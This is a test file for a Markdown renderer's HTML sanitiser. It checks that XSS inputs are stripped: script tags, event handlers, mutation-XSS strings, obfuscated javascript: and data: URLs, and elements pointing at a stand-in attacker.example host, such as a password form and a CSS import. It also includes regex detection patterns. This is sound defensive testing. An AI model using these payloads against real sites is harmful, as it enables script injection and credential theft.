import { describe, expect, test } from 'vitest';

import { render } from '../support/markdown.ts';

describe('raw HTML that could run script', () => {
  test.each([
    ['a script', '<script>alert(1)</script>'],
    ['a script in a block', 'Text\n\n<script>\nalert(1)\n</script>\n\nMore'],
    ['a script cut in two', '<scr<script>ipt>alert(1)</script>'],
    ['a script inside other elements', '<div><p><script>alert(1)</script></div>'],
    ['an unclosed script', '<p>Hi <script>alert(1)'],
    ['an event handler', '<p onclick="alert(1)" ONMOUSEOVER=alert(1)>Hi</p>'],
    ['an image that fails', '<img src=x onerror=alert(1)>'],
    ['an image with a slash for a space', '<img/src="x"/onerror=alert(1)>'],
    ['a frame', '<iframe src="https://attacker.example"></iframe>'],
    ['a frame with a document', '<iframe srcdoc="<script>alert(1)</script>"></iframe>'],
    ['a picture with script', '<svg onload="alert(1)"><a xlink:href="javascript:alert(1)"><text>x</text></a></svg>'],
    ['a formula with script', '<math><mtext><script>alert(1)</script></mtext></math>'],
    [
      'styles',
      '<style>@import "https://attacker.example/x.css"; p { color: red }</style><p style="position: fixed">Hi</p>',
    ],
    [
      'a form',
      '<form action="https://attacker.example"><input name="password"><button formaction="javascript:alert(1)">Go</button></form>',
    ],
    ['a new base', '<base href="https://attacker.example">'],
    ['an object', '<object data="javascript:alert(1)"></object><embed src="https://attacker.example">'],
    ['a refresh', '<meta http-equiv="refresh" content="0; url=javascript:alert(1)">'],
    ['a comment with markup', '<!--><img src=x onerror=alert(1)>-->'],
    ['a template', '<template><img src=x onerror=alert(1)></template>'],
    [
      'markup that changes its meaning when it is parsed again',
      '<math><mtext><table><mglyph><style><!--</style><img title="--&gt;&lt;img src=1 onerror=alert(1)&gt;">',
    ],
    ['a comment that ends late', '<!-- --!><img src=x onerror=alert(1)> -->'],
    ['text that is never closed', '<plaintext><img src=x onerror=alert(1)>'],
    ['a listing', '<xmp><img src=x onerror=alert(1)></xmp><listing><img src=x onerror=alert(1)></listing>'],
    ['a custom element', '<x-evil onclick="alert(1)">Hi</x-evil>'],
    ['an element that opens', '<details open ontoggle="alert(1)"><summary onclick=alert(1)>Hi</summary></details>'],
    ['the title of a code block', '```js title="<img src=x onerror=alert(1)>"\ncode\n```'],
    ['the language of a code block', '```js"onmouseover="alert(1)\ncode\n```'],
    ['the title of a link', '[Text](/a "x\\" onclick=\\"alert(1)")'],
    ['an attribute cut by a null character', '<p on\u0000click="alert(1)">Hi</p>'],
    ['a plain text switch', '<noscript><p title="</noscript><img src=x onerror=alert(1)>"></noscript>'],
  ])('%s does nothing', (_, text) => {
    const { html } = render(text);
    expect(html).not.toMatch(/<(?:script|iframe|svg|math|style|form|base|object|embed|meta|template|noscript|!--)/i);
    expect(html).not.toMatch(/<[^>]*\s(?:on\w+|style|srcdoc|action|formaction|name)\s*=/i);
    expect(html).not.toMatch(/(?:href|src)\s*=\s*["']?\s*(?:javascript|data|vbscript):/i);
  });
});

describe('an address that could run script', () => {
  test.each([
    'javascript:alert(1)',
    'JaVaScRiPt:alert(1)',
    ' \u0001javascript:alert(1)',
    'java\tscript:alert(1)',
    'vbscript:msgbox(1)',
    'data:text/html,<script>alert(1)</script>',
    'file:///etc/passwd',
    'blob:https://x.example/1',
  ])('%j is dropped from raw HTML, and noted', (address) => {
    const { html, links } = render(`<a href="${address.replaceAll('<', '&lt;')}">Text</a>`);
    expect(html).toBe('<p><a>Text</a></p>\n');
    expect(links).toMatchObject([{ kind: 'unsafe' }]);
  });

  test.each([
    'java&#115;cript:alert(1)',
    'java&#x0A;script:alert(1)',
    '&#106;avascript&colon;alert(1)',
    'javascript&#0058;alert(1)',
  ])('%s is dropped, written with entities', (address) => {
    expect(render(`<a href="${address}">Text</a>`).html).toBe('<p><a>Text</a></p>\n');
  });

  test.each([
    '[Text](javascript:alert(1))',
    '[Text](JAVASCRIPT:alert%281%29)',
    '[Text](<java\tscript:alert(1)>)',
    '[Text][x]\n\n[x]: data:text/html,hi',
    '<javascript:alert(1)>',
  ])('%s is dropped from Markdown', (text) => {
    const { html, links } = render(text);
    expect(html).not.toContain('href');
    expect(links).toMatchObject([{ kind: 'unsafe' }]);
  });
});

describe('raw HTML that affects the page', () => {
  test.each([
    ['an island of it', '<div data-react-page="my-react-page" data-enhance>Hi</div>', /data-(?:react|enhance)/],
    ['its identifiers', '<p id="app">Hi</p><div id="page-data">{}</div>', /\sid=/],
    [
      'its requests',
      '<img src="/a.png" srcset="https://attacker.example/a.png 2x"><a href="/b" ping="https://attacker.example">b</a>',
      /attacker/,
    ],
    ['its colors', '<p style="background: url(https://attacker.example)" bgcolor="red">Hi</p>', /attacker|bgcolor/],
    [
      'its form controls',
      '<select><option>a</option></select><textarea>b</textarea><input type="image" src="https://attacker.example">',
      /<(?:select|textarea)|attacker/,
    ],
  ])('loses %s', (_, text, forbidden) => {
    expect(render(text).html).not.toMatch(forbidden);
  });
});

describe('a placeholder of another tool', () => {
  test.each([
    '<SecurityDefinitions />',
    '<security-definitions />',
    '<!-- ReDoc-Inject: <security-definitions> -->',
    '<SchemaDefinition schemaRef="#/components/schemas/Pet" showReadOnly={true} />',
    '<redoc-inject />',
  ])('%s is left out', (tag) => {
    const { html } = render(`Before.\n\n${tag}\n\nAfter.`);
    expect(html).not.toMatch(/definition|inject|lt;/i);
    expect(html).toContain('<p>After.</p>');
  });
});

describe('raw HTML that is allowed', () => {
  test('keeps the elements of Markdown', () => {
    expect(
      render('<details open><summary>More</summary>\n\n**bold** <kbd>Ctrl</kbd><br>H<sub>2</sub>O\n\n</details>').html,
    ).toMatch(
      /<details open(?:="")?><summary>More<\/summary>\s*<p><strong>bold<\/strong> <kbd>Ctrl<\/kbd><br \/>H<sub>2<\/sub>O<\/p>\s*<\/details>/,
    );
  });

  test('is closed if the author left it open', () => {
    expect(render('<div><b>Bold').html).toBe('<div><b>Bold</b></div>');
  });

  test('loses attributes that affect the page around it', () => {
    expect(render('<a href="https://x.example" target="_blank" id="app" name="cookie">x</a>').html).toBe(
      '<p><a href="https://x.example">x</a></p>\n',
    );
  });

  test('keeps the anchor of a heading, once and not of the document', () => {
    const { html, anchors } = render(
      '<h1 id="custom">One</h1>\n<h2 id="custom">Two</h2>\n<h3 id="page-data">Three</h3>',
    );
    expect(html).toBe('<h2 id="custom">One</h2>\n<h2>Two</h2>\n<h3>Three</h3>');
    expect(anchors).toEqual(['custom']);
  });

  test('keeps an anchor that links inside of the page can name, once and not of the document', () => {
    const { html, anchors } = render(
      '<a id="old"></a><a name="older"></a> See [it](#old).\n\n<a id="app"></a><a id="old" href="https://x.example">x</a>',
    );
    expect(html).toBe(
      '<p><a id="old"></a><a id="older"></a> See <a href="#old">it</a>.</p>\n<p><a></a><a href="https://x.example">x</a></p>\n',
    );
    expect(anchors).toEqual(['old', 'older']);
  });

  test('leaves the anchors of Markdown headings alone', () => {
    const { html, links } = render('## One\n\nText<br>');
    expect(html).toContain('<h2 id="one">One<a class="anchor" href="#one" aria-label="Direct link to One"></a></h2>');
    expect(links).toEqual([]);
  });

  test('has its links resolved like those of Markdown', () => {
    const { html, links } = render('<a href="./users.md">a</a> <a href="/intro#x">b</a> [c](/intro)', { locale: 'es' });
    expect(html).toBe(
      '<p><a href="/es/glossary/users">a</a> <a href="/es/intro#x">b</a> <a href="/es/intro">c</a></p>\n',
    );
    expect(links.map(({ route }) => route).toSorted()).toEqual(['/glossary/users', '/intro', '/intro']);
  });
});

describe('an image', () => {
  test('of the site is shown', () => {
    expect(render('![A box](/box.png)').html).toBe('<p><img src="/box.png" alt="A box" loading="lazy"></p>\n');
    expect(render('<img src="/box.png" alt="A box">').html).toContain(
      '<img src="/box.png" alt="A box" loading="lazy" />',
    );
  });

  test.each(['![A box](https://cdn.example/box.png)', '<img src="https://cdn.example/box.png" alt="A box">'])(
    '%s from elsewhere is a link',
    (text) => {
      const { html } = render(text);
      expect(html).toMatch(/<a href="https:\/\/cdn\.example\/box\.png"[^>]*>A box<\/a>/);
      expect(html).not.toContain('<img');
    },
  );

  test.each([
    '[![Run it](https://cdn.example/button.svg)](https://run.example/)',
    '<a href="https://run.example/"><img src="https://cdn.example/button.svg" alt="Run it"></a>',
    '<a href="https://run.example/">\n\n![Run it](https://cdn.example/button.svg)\n\n</a>',
  ])('from elsewhere inside a link is the text of the link: %s', (text) => {
    const { html } = render(text);
    expect(html.match(/href="[^"]*"/g)).toEqual(['href="https://run.example/"']);
    expect(html.match(/<a\b/g)).toHaveLength(1);
    expect(html).toMatch(/<a [^>]*>[^]*Run it[^]*<\/a>/);
  });

  test.each([
    '![Box](//cdn.example/box.png)',
    '![Box](javascript:alert(1))',
    '![Box](data:image/svg+xml,x)',
    '<img src="//cdn.example/box.png" alt="Box">',
    '<img src="data:image/png,x" alt="Box">',
  ])('%s is its text', (text) => {
    const { html } = render(text);
    expect(html).not.toMatch(/<img|href|src/);
    expect(html).toContain('Box');
  });

  test('that the site does not have is its text, in the twin too, and is found by the link check', () => {
    const { html, markdown, links } = render('A ![map](images/map.png).');
    expect([html, markdown]).toEqual(['<p>A map.</p>\n', 'A map.']);
    expect(links).toEqual([{ kind: 'image', href: 'images/map.png', route: '', fragment: '' }]);
  });
});

test('an item without a list of its own is a block, so that it ends no item around the text', () => {
  expect(render('Such as <li>A</li><ul><li>B</li></ul>').html).toBe(
    '<p>Such as <div>A</div></p><ul><li>B</li></ul><p></p>\n',
  );
});
